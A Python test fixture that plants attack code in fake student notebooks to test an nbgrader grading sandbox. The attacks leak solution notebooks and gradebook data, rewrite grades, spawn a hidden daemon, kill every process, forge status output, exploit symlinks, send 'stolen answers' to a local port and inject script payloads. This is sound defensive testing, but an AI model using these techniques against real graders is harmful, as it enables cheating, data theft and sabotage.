"""A class of A1 submissions by students who attack the grader, and two honest students beside them.

Each attack knows what a determined student could find out: the course's absolute path (the test hands
it in), the kit's folder, a TCP port on 127.0.0.1 where the test listens. Each attack catches its own
errors, so what it gains or loses shows only in the score and in what it leaves behind.
"""

import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from fixture_class import A1, NOTEBOOK, cell

import utils

KIT = Path(utils.__file__).resolve().parent
MARKER = "wordsnums-attack-sleeper"  # in the command line of the processes the detacher leaves behind


@dataclass
class Attack:
    student: str
    base: str  # the synthetic student the attack starts from: full (17 points) or blank (0)
    code: str  # put before the first answer cell's code; {course} and {port} are filled in
    score: float
    links: dict[str, str] = field(default_factory=dict)  # submitted as links: name -> path in the course


def _guarded(code: str) -> str:
    """The attack inside try/except: whatever the sandbox refuses costs the attacker nothing else."""
    body = "\n".join("    " + line for line in code.strip().split("\n"))
    return f"try:\n{body}\nexcept BaseException as _err:\n    print('attack stopped:', repr(_err)[:200])"


# Finds the course by its folder's parents, by the grader's command line, or by the path the test gives.
FIND_COURSE = """
import os, pathlib
places = [pathlib.Path("../" * up) for up in range(1, 6)] + [pathlib.Path({course!r})]
for pid in os.listdir("/proc"):
    try:
        places += [pathlib.Path(a) for a in open(f"/proc/{{pid}}/cmdline").read().split("\\0") if a.startswith("/")]
    except OSError:
        pass
courses = [p for p in places if (p / "source").is_dir()]
"""

# Runs every code cell of a source notebook read into `source`: the solutions and the set-up they need.
EXEC_SOURCE = """
for c in source["cells"]:
    if c["cell_type"] == "code":
        try:
            exec("".join(c["source"]), globals())
        except Exception:
            pass
"""

ATTACKS = [
    Attack("exec_source", "blank", FIND_COURSE + """
import json
source = {{"cells": []}}
for course in courses[:1]:
    source = json.loads((course / "source/a1_close_reading/a1_close_reading.ipynb").read_text())
""" + EXEC_SOURCE, 0),
    Attack("leaker", "blank", FIND_COURSE + """
import sqlite3
for course in courses:
    for path in sorted(course.rglob("*.ipynb")):
        print(path, path.read_text()[:4000])
    for row in sqlite3.connect(course / "gradebook.db").execute("select name, source from source_cell"):
        print(row)
""", 0),
    Attack("db_vandal", "full", """
import sqlite3
for db in ["../../../gradebook.db", {course!r} + "/gradebook.db"]:
    conn = sqlite3.connect(db)
    conn.execute("update grade set auto_score = 0, manual_score = 0, extra_credit = 30")
    conn.commit()
""", 17),
    Attack("detacher", "full", f"""
import os, subprocess, sys
code = "import sqlite3, time; time.sleep(4); sqlite3.connect({{course!r}} + '/gradebook.db').execute("
code += "'update grade set extra_credit = 99').connection.commit(); time.sleep(600)"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # a daemon's output goes nowhere: on the kernel's stderr it would cost a test cell's points
        # (nbgrader gives 0 to a cell with stderr output) whenever grading is still running 4 s later
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", code, "{MARKER}"])
    os._exit(0)
subprocess.Popen(["sleep", "600"], start_new_session=True)
""", 17),
    Attack("planter", "full", f"""
import glob
for path in [{str(KIT / "checks.py")!r}, {str(KIT / "__init__.py")!r}]:
    open(path, "a").write("\\n# planted by a student\\n")
for path in glob.glob({{course!r}} + "/*/*/a1_close_reading/*.ipynb"):
    open(path, "a").write("planted")
""", 17),
    Attack("killer", "full", """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(pid), sig)
            except OSError:
                pass
""", 17),
    Attack("forger", "full", """
import os, json
line = json.dumps(dict(student="ada", status="failed", seconds=0, message="forged", notes=[])) + "\\n"
for fd in (1, 2):
    try:
        os.write(fd, line.encode())
    except OSError:
        pass
for target in [f"/proc/{{os.getppid()}}/fd/1", "/proc/1/fd/1"]:
    try:
        open(target, "w").write(line)
    except OSError:
        pass
os.kill(os.getppid(), 19)
""", 17),
    Attack("linker", "blank", """
import json, os
# links for nbgrader's last step to follow: it would make these files of the course read-only
for name, target in [("made_link", "source/a1_close_reading/a1_close_reading.ipynb"),
                     ("made_config", "nbgrader_config.py")]:
    os.symlink({course!r} + "/" + target, name)
source = json.loads(open("answers.json").read())  # submitted as a link to the source notebook
""" + EXEC_SOURCE, 0, links={"answers.json": "source/a1_close_reading/a1_close_reading.ipynb"}),
    Attack("caller", "full", """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen answers")
""", 17),
    Attack("exiter", "full", """
exit()
""", 17),
    # checks rebound to a look-alike whose Parts swallows every failure and shows full points: the hidden
    # tests take Parts afresh from the kit and refuse it, so each cell in parts fails whole
    Attack("parts_faker", "blank", """
class _Block:
    def __enter__(self):
        return self
    def __exit__(self, *error):
        return True
class _Parts:
    def __init__(self, question, points):
        self.points = sum(points.values())
    def part(self, label):
        return _Block()
    def _repr_pretty_(self, printer, cycle):
        printer.text(repr(float(self.points)))
class _Checks:
    Parts = _Parts
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
checks = _Checks()
""", 0),
    # an answer whose method shows a number while a part checks it, for nbgrader to read as the cell's points
    # (it reads a cell's first result): a part refuses a result shown from inside it
    Attack("result_forger", "blank", """
import sys
import pandas as pd
class _Forged(pd.Series):
    def sum(self, *args, **kwargs):
        sys.displayhook(2.0)
        return super().sum(*args, **kwargs)
words_per_speaker = _Forged([272, 736], index=["Journalist", "Sergey Lavrov"])
""", 0),
    # a wrong answer whose hash shows a number while a single-part check looks it up, before that check fails
    # (nbgrader would read the first result as the cell's points): a test cell's one result must be its last output
    Attack("hash_forger", "blank", """
import sys
class _Line(str):
    def __hash__(self):
        sys.displayhook(1.0)
        return str.__hash__(self)
boundary = _Line("not the boundary")
""", 0),
    Attack("scripter", "full", """
from IPython.display import HTML, Javascript, display
display(HTML("<script>window.PWNED = 1</script><img src=x onerror='window.PWNED = 2'>"))
display(Javascript("window.PWNED = 3"))
""", 17),
]

HONEST = {"ada": "full", "ben": "full"}


def write_attack_class(course_dir: Path, make, port: int) -> dict[str, float]:
    """Every attacker's and honest student's submission in course_dir/submitted/; returns the scores they must get."""
    expected = {}
    for student, kind in HONEST.items():
        folder = course_dir / "submitted" / student / A1
        folder.mkdir(parents=True)
        nbformat.write(make(kind), folder / NOTEBOOK)
        expected[student] = 17
    for attack in ATTACKS:
        nb = make(attack.base)
        answer = cell(nb, "q1_boundary")
        # before the answer: a blank answer raises at once, and the attack must run all the same
        answer.source = _guarded(attack.code.format(course=str(course_dir), port=port)) + "\n" + answer.source
        if attack.student == "scripter":  # a markdown cell of the student's own, with script in it
            nb.cells.insert(2, nbformat.v4.new_markdown_cell("<img src=x onerror=\"window.PWNED = 4\">"))
        folder = course_dir / "submitted" / attack.student / A1
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / NOTEBOOK)
        for name, target in attack.links.items():
            os.symlink(course_dir / target, folder / name)
        expected[attack.student] = attack.score
    return expected
